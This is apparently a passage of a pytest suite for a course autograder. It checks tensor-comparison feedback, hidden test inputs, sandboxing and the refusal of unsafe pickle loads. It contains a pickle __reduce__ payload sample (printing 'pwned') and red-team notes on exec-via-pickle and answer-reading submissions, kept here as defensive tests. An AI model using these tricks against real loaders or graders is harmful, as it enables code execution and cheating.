    assert judge.differs(nan.clone(), nan, 1e-5, 1e-4) is None  # NaN where the reference has NaN, and only there
    assert judge.differs(torch.tensor([1.0, float("inf")]), torch.tensor([1.0, float("-inf")]), 1e-5, 1e-4)
    assert judge.differs(True, 1, 0, 0) and judge.differs(1, True, 0, 0) and judge.differs(1.0, 1, 0, 0)
    assert judge.differs([torch.ones(1)], [torch.ones(1), torch.ones(1)], 0, 0)
    # Tensors without values to compare (found by a red team: they made torch.equal raise).
    assert "dense CPU tensor" in judge.differs(torch.ones(2, 3).to_sparse(), want, 1e-5, 1e-4)
    assert "dense CPU tensor" in judge.differs(torch.ones(2, 3, device="meta"), want, 1e-5, 1e-4)


def test_judge_says_how_values_differ_in_the_students_words():
    # The grader's feedback, like the check cells', never says only "values differ" (issue 26).
    want = torch.randn(4, 6, generator=torch.Generator().manual_seed(0))
    drift = want.clone()
    drift[2:] += 1
    cases = [(want * 2, "2 times the expected one"), (-want, "wrong sign"), (want + 0.25, "off by the same +0.25"),
             (torch.softmax(want, -1), "sums to 1"), (want.flip(0), "in the wrong places"),
             (drift, "positions 0 and 1 match and every later one differs")]
    for got, words in cases:
        assert words in judge.differs(got, want, 1e-5, 1e-4)
    ids = torch.arange(12).reshape(3, 4)
    off = ids.clone()
    off[1, 2] = 0
    assert judge.differs(off, ids, 0, 0) == "1 of 12 entries differ from the expected ones, the first at index (1, 2)"
    nan = want.clone()
    nan[3, 1] = float("nan")
    assert judge.differs(nan, want, 1e-5, 1e-4).startswith("1 of 24 entries are NaN where the expected ones are")
    assert "are numbers where the expected ones are NaN" in judge.differs(want, nan, 1e-5, 1e-4)
    assert "(3, 1)" in judge.differs(want, nan, 1e-5, 1e-4)


def test_worker_outputs_cross_as_plain_data_only(tmp_path):
    path = tmp_path / "1.1.pt"

    class Evil:
        def __reduce__(self):
            return (print, ("pwned",))

    torch.save([{"ok": True, "out": {"y": Evil()}}], path)
    assert judge.load_results(path, 1) is None  # torch.load(weights_only=True) refuses the object
    (tmp_path / "real.pt").write_bytes(b"")
    path.unlink()
    path.symlink_to(tmp_path / "real.pt")
    assert judge.load_results(path, 1) is None  # never followed


def test_the_worker_never_runs_a_full_unpickler(tmp_path, monkeypatch, capsys):
    # Found by a red team: Task 10.5's load_checkpoint may call torch.load, and cross_entropy
    # called it on a file object over a bytes literal with weights_only=False: the pickle ran
    # exec, which bound F.cross_entropy to a bare name, and Task 10.1 earned its points.
    import io
    import pickle

    from minilm.course.sandboxed import worker

    monkeypatch.delenv("TORCH_FORCE_WEIGHTS_ONLY_LOAD", raising=False)
    monkeypatch.setenv("TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD", "1")
    plan = tmp_path / "plan.pt"
    torch.save({"tasks": [], "cases": {}}, plan)
    threads = torch.get_num_threads()
    try:
        assert worker.main([str(plan), str(tmp_path)]) == 0
    finally:
        torch.set_num_threads(threads)

    class Evil:
        def __reduce__(self):
            return (print, ("pwned",))

    buffer = io.BytesIO()
    torch.save(Evil(), buffer)
    buffer.seek(0)
    with pytest.raises(pickle.UnpicklingError):
        torch.load(buffer, weights_only=False)
    assert "pwned" not in capsys.readouterr().out


def test_every_task_has_a_probe_that_the_reference_passes_and_each_mistake_fails(monkeypatch):
    from minilm.course import exercises
    from minilm.course.sandboxed import worker
    from solutions import hidden_cases, mistakes

    assert judge.STUB == worker.STUB  # the results' one word of format that both sides spell

    # Every mutant of a task is judged on the same cases (seed 8), and judge_task asks the pool for
    # the reference's outputs on them and, once the mutant differs, for every one of the task's
    # mistakes' outputs: the same jobs again for each of its mutants (461 mistake jobs for 115
    # mutants, two thirds of this test's time). They are deterministic (seeded): each runs once per
    # task's cases. Each mutant still gets cases of its own (one may change its inputs in place), and
    # a stored answer is reused only for cases equal to those it was computed on.
    def same(a, b) -> bool:
        if isinstance(a, torch.Tensor):
            return isinstance(b, torch.Tensor) and a.dtype == b.dtype and a.shape == b.shape and torch.equal(a, b)
        if isinstance(a, dict):
            return isinstance(b, dict) and a.keys() == b.keys() and all(same(a[k], b[k]) for k in a)
        if isinstance(a, (list, tuple)):
            return type(a) is type(b) and len(a) == len(b) and all(same(x, y) for x, y in zip(a, b))
        return type(a) is type(b) and a == b

    def once(fn):
        done = {}

        def cached(task, cases):
            if task not in done or not same(cases, done[task][0]):
                done[task] = (cases, fn(task, cases))
            return done[task][1]
        return cached

    monkeypatch.setattr(judge, "expected", once(judge.expected))
    monkeypatch.setattr(judge, "mistake_outputs", once(judge.mistake_outputs))

    assert set(exercises.load()) == set(hidden_cases.HIDDEN) == set(tasks.BY_ID)

    def rows(task, cases):
        out = []
        for c in cases:
            try:
                got = judge._seeded(exercises.get(task).collect, judge.Reference(), c)
                out.append({"ok": True, "out": {k: worker._plain(v) for k, v in got.items()}})
            except Exception as e:  # noqa: BLE001
                out.append({"ok": False, "error": type(e).__name__})
        return out

    for task in tasks.BY_ID:
        cases, n = judge.make_cases(task, 7)
        assert len(cases) > n > 0, task
        verdict = judge.judge_task(task, cases, n, rows(task, cases))
        assert verdict.ok, verdict.message
    for mutant in mistakes.all_mutants():
        cases, n = judge.make_cases(mutant["task"], 8)
        with mistakes.applied(mutant):
            got = rows(mutant["task"], cases)
        verdict = judge.judge_task(mutant["task"], cases, n, got)
        assert not verdict.ok, mutant["name"]
        if mutant.get("raises"):  # the grader reports the error and the input, and names no mistake
            assert " raised " in verdict.message, (mutant["name"], verdict.message)
        elif mutant["broken"]:  # a property's mistake: failed on the hidden inputs that show it, named by none
            assert verdict.mistake is None, (mutant["name"], verdict.message)
        elif mutant["task"] != "9.1":  # random windows: judged by invariants, named by the message
            assert verdict.mistake == mutant["name"], verdict.message


def test_hidden_inputs_differ_per_seed_and_are_not_in_the_student_edition():
    a, n = judge.make_cases("3.1", 1)
    b, _ = judge.make_cases("3.1", 2)
    assert all(torch.equal(x["x"], y["x"]) for x, y in zip(a[:n], b[:n]))  # the notebook's inputs are fixed
    assert not torch.equal(a[n]["x"], b[n]["x"])
    for path in (ROOT / "minilm" / "course" / "exercises").glob("*.py"):  # what the worker reads names no hidden case
        assert "hidden" not in path.read_text(encoding="utf-8").lower(), path.name


def test_submissions_are_read_without_following_links_or_unpacking(tmp_path):
    src = submission(tmp_path, "carol", linear=reference("linear"))
    archive = tmp_path / "carol.zip"
    with zipfile.ZipFile(archive, "w") as z:
        for f in src.rglob("*.py"):
            z.write(f, "carol-main/" + f.relative_to(src).as_posix())
    sub = submissions.resolve(str(archive), tmp_path / "x")
    assert sub.name == "carol" and not sub.notes  # the file's name, not the folder inside it
    assert sub.modules["linear"].decode() == reference("linear")
    (tmp_path / "empty").mkdir()
    (tmp_path / "empty" / "notes.txt").write_text("hi")
    with pytest.raises(submissions.SubmissionError,
                       match=r"no minilm package found in .*empty \(expected minilm/linear.py"):
        submissions.resolve(str(tmp_path / "empty"), tmp_path / "y")
    (tmp_path / "link").mkdir()
    (tmp_path / "link" / "minilm").symlink_to(src / "minilm")
    with pytest.raises(submissions.SubmissionError, match="symlink"):
        submissions.resolve(str(tmp_path / "link"), tmp_path / "z")


def test_check_cells_are_read_from_the_notebooks():
    for path in tasks.course_notebooks():
        cells = check_cells(json.loads(path.read_text(encoding="utf-8")))
        checked = sorted({t for ids in cells.values() for t in ids})
        assert checked == sorted(t.id for t in tasks.for_notebook(path.name)), path.name
    assert checked_tasks('x = 1\ncheck("6.1", "6.2")\nminilm.checks.check("3.1")') == ["6.1", "6.2", "3.1"]
    assert checked_tasks('_ = minilm_cli(["check", "1.1"])') == []


def test_a_notebook_runs_while_one_of_its_tasks_can_still_earn_points():
    from solutions.grading.cli import lost_tasks, notebooks_to_run

    cells = {"01_linear": {3: ["1.1"], 6: ["1.2"]}, "03_rmsnorm": {3: ["3.1"], 5: ["3.2"]}}
    ok, wrong = judge.TaskResult("", True, ""), judge.TaskResult("", False, "")
    hidden = judge.TaskResult("", False, "", hidden=True)
    everything = {"1.1": ok, "1.2": ok, "3.1": ok, "3.2": ok}
    assert notebooks_to_run(cells, everything, {}) == ["01_linear", "03_rmsnorm"]
    assert notebooks_to_run(cells, {t: wrong for t in everything}, {}) == []
    # One task left that can earn its points keeps its notebook.
    assert notebooks_to_run(cells, {**everything, "1.1": wrong, "3.1": wrong, "3.2": wrong}, {}) == ["01_linear"]
    # A broken rule loses the points like a wrong output.
    assert notebooks_to_run(cells, {**everything, "1.1": wrong}, {"1.2": ["Task 1.2: …"]}) == ["03_rmsnorm"]
    # A failure on a hidden input is not known before grades are published: its notebook runs.
    assert notebooks_to_run(cells, {**everything, "1.1": hidden, "1.2": wrong}, {}) == ["01_linear", "03_rmsnorm"]
    # Within a notebook that runs, the check cells of the tasks already lost are left out (nbval_plugin).
    assert lost_tasks({**everything, "1.1": hidden, "1.2": wrong}, {"3.2": ["Task 3.2: …"]}) == {"1.2", "3.2"}


def test_feedback_names_a_check_cell_where_students_find_it():
    """nbval's code-cell number becomes the cell's place among all cells, as JupyterLab and the
    test names count: notebook 03's check of 3.1 is the same cell either way."""
    nb = json.loads((ROOT / "notebooks" / "03_rmsnorm.ipynb").read_text(encoding="utf-8"))
    (code_index, _), = [(i, ids) for i, ids in check_cells(nb).items() if ids == ["3.1"]]
    position = cell_position(nb, code_index)
    cell = nb["cells"][position - 1]
    assert cell["cell_type"] == "code" and 'check("3.1")' in "".join(cell["source"])
    assert position > code_index + 1  # text cells come before it
    r = TaskGrade(0, 2, "x", cells=[CellResult("03_rmsnorm", code_index, "failed", position)])
    assert f"`notebooks/03_rmsnorm.ipynb`, check cell {position}: failed" in reports.task_lines(r)


def test_nbval_report_is_read_by_nbvals_own_cell_number(tmp_path):
    """The root conftest names a notebook's items as students find them ("cell 6 (check of Task
    3.1)": every cell counted from 1) and keeps nbval's number (code cells from 0), the one
    check_cells uses, as a JUnit property; a run without the conftest says "Cell 1"."""
    xml = tmp_path / "nbval.xml"
    case = '<testcase classname="notebooks.03_rmsnorm.ipynb" name="{}">{}</testcase>'
    prop = '<properties><property name="{}" value="{}"/></properties>'
    xml.write_text("<testsuites><testsuite>" + "".join([
        case.format("cell 6 (check of Task 3.1)", prop.format(NBVAL_CELL, 1)),
        case.format("cell 12 (check of Task 3.2)", prop.format(NBVAL_CELL, 4)
                    + '<failure message="notebooks/03_rmsnorm.ipynb, cell 12: Cell outputs differ"/>'),
        case.format("Cell 2", ""),
        case.format("cell 13 (uses Task 3.2)", ""),  # no number nbval gave: not read
    ]) + "</testsuite></testsuites>", encoding="utf-8")
    got = {key: c.status for key, c in notebooks.parse_junit(xml).items()}
    assert got == {("03_rmsnorm", 1): "passed", ("03_rmsnorm", 4): "differs", ("03_rmsnorm", 2): "passed"}


def test_without_a_sandbox_it_refuses_unless_told(monkeypatch, tmp_path):
    # Neither bwrap nor Docker nor setpriv (which, as root, the automatic choice falls back to where the clone lies in
    # a folder no other uid may enter, as `mktemp -d` makes it)
    monkeypatch.setattr(sandbox, "bwrap_path", lambda: None)
    monkeypatch.setattr(sandbox, "docker_available", lambda: False)
    monkeypatch.setattr(sandbox, "setpriv_path", lambda: None)
    with pytest.raises(sandbox.SandboxUnavailable, match="--no-sandbox"):
        sandbox.choose("auto")
    env = {**os.environ, "PATH": str(tmp_path)}  # neither bwrap nor docker on PATH
    env.pop("MINILM_IMPL", None)
    r = subprocess.run([sys.executable, "-m", "solutions.grading", str(tmp_path), "--out", str(tmp_path / "out")],
                       cwd=ROOT, env=env, capture_output=True, text=True, timeout=120)
    assert r.returncode == 2 and "--no-sandbox" in r.stderr and not (tmp_path / "out").exists(), r.stderr


def test_bad_command_lines_get_one_line_and_write_nothing(tmp_path):
    r = run_grade(str(tmp_path), "--tasks", "99.9")
    assert r.returncode == 2 and "unknown task id '99.9'" in r.stderr
    blocker = tmp_path / "file"
    blocker.write_text("")
    sub = submission(tmp_path, "me")
    r = run_grade(str(sub), "--tasks", "1.1", "--out", str(blocker / "out"), "--no-sandbox")
    assert r.returncode == 2 and "cannot write there" in r.stderr, r.stderr


@pytest.mark.slow
def test_docker_removes_the_container_at_the_time_limit(docker_image, tmp_path):
    # Killing `docker run` at the time limit leaves its container running: the grader removes it,
    # with what it started (here a process in a session of its own).
    box = sandbox.Sandbox("docker")
    ws, out = tmp_path / "ws", tmp_path / "out"
    ws.mkdir()
    out.mkdir()
    box.prepare(ws, out, 0)
    code = "import os, time\nif os.fork() == 0:\n    os.setsid()\ntime.sleep(600)"
    run = sandbox.run(box, ["-c", code], ws, out, box.env({}, ws, out), 0, timeout=5, log=tmp_path / "log")
    assert run.returncode is None
    left = subprocess.run(["docker", "ps", "-a", "-q", "--filter", f"name=minilm-grade-{os.getpid()}-"],
                          capture_output=True, text=True, timeout=60)
    assert left.returncode == 0 and left.stdout.strip() == "", left


def test_dockerfile_runs_the_grader_as_the_container_mode_expects():
    text = sandbox.DOCKERFILE.read_text(encoding="utf-8")
    assert "torch==" in text and "nbval" in text and "USER" in text
    # Its base is a build argument (CI's is a bare Debian), and its Python is where the grader runs it.
    assert "ARG BASE=python:3.11-slim\nFROM $BASE\n" in text and f"-m venv {sandbox.DOCKER_VENV}\n" in text


@pytest.mark.slow
def test_without_a_sandbox_the_attacks_are_real_and_every_report_says_so(tmp_path):
    # The same reader and copier, graded with --no-sandbox: nothing but the from-scratch rule stands between
    # them and the reference's and a classmate's linear. Its recorder stops their open and exec before they
    # run, and its lint costs them the task; in the sandbox they would find nothing at all. Every report of
    # such a run starts with UNSANDBOXED.
    victim = submission(tmp_path / "subs", "victim", linear=reference("linear"))
    reader = submission(tmp_path / "subs", "reader", linear=reads_answers_and_exfiltrates()["linear"])
    copier = submission(tmp_path / "subs", "copier", linear=copies_and_sabotages(victim)["linear"])
    r = run_grade(str(victim), str(reader), str(copier), "--tasks", "1.1", "--no-sandbox", "--jobs", "2",
                  "--out", str(tmp_path / "out"), "--cell-timeout", "60")
    assert r.returncode == 0, r.stdout[-2000:] + r.stderr[-2000:]
    got = {s["student"]: s["tasks"]["1.1"]
           for s in json.loads((tmp_path / "out" / "grades.json").read_text())["students"]}
    assert got["victim"]["message"].startswith("linear matches the reference"), got["victim"]
    assert got["victim"]["points"] == P11 and got["reader"]["points"] == got["copier"]["points"] == 0
    for name in ("reader", "copier"):
        assert got[name]["message"] == "stopped by the from-scratch rule on the notebook's inputs", got[name]
        assert any("which no task may call" in rule for rule in got[name]["rules"]), got[name]
    for name in ("grades.csv", "grades.json", "feedback/victim.md"):
        first = (tmp_path / "out" / name).read_text(encoding="utf-8").lstrip("{\n \"warning\":").lstrip("# ")
        assert first.startswith(reports.UNSANDBOXED[:20]), (name, first[:80])
